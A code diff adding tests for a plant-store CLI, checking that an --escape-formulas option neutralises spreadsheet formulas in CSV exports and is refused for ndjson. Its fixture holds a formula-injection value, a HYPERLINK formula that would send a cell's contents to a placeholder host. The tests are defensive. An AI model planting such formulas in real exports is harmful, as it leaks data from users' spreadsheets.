@@ -55,6 +55,30 @@ t.test('all plants come by id, on standard output or in a file', async (t) => {
   t.strictSame(files(), ['link.csv', 'target.csv'])
 })
 
+t.test('--escape-formulas makes CSV safe to open in a spreadsheet', async (t) => {
+  const hostile = { id: -1n, name: '=HYPERLINK("http://x/"&A1)', tag: '@a' }
+  const { folder, write } = await exportsOf(t, [hostile])
+  const file = join(folder, 'plants.csv')
+  const lines = {
+    safe: `id,name,tag\n-1,"'=HYPERLINK(""http://x/""&A1)","'@a"\n`,
+    faithful: 'id,name,tag\n-1,"=HYPERLINK(""http://x/""&A1)",@a\n',
+  }
+  t.match(await write('--format', 'csv', '--escape-formulas'), { code: 0, stdout: lines.safe })
+  t.match(await write(file, '--escape-formulas'), { code: 0, stderr: '' })
+  t.equal(readFileSync(file, 'utf8'), lines.safe)
+  t.match(await write('--format', 'csv'), { code: 0, stdout: lines.faithful }, 'off by default')
+})
+
+t.test('--escape-formulas is refused for what no spreadsheet opens', async (t) => {
+  const { folder, write, files } = await exportsOf(t, plants)
+  const stderr = 'plant-store: --escape-formulas is for CSV; the format of this export is ndjson\n'
+  for (const args of [[], [join(folder, 'plants.ndjson')], ['x.csv', '--format', 'ndjson']]) {
+    const finished = await write(...args, '--escape-formulas')
+    t.strictSame(finished, { code: 1, stdout: '', stderr })
+  }
+  t.strictSame(files(), [])
+})
+
 t.test('a named pipe is written to, not replaced', async (t) => {
   const { folder, write } = await exportsOf(t, plants)
   const pipe = join(folder, 'pipe.csv')
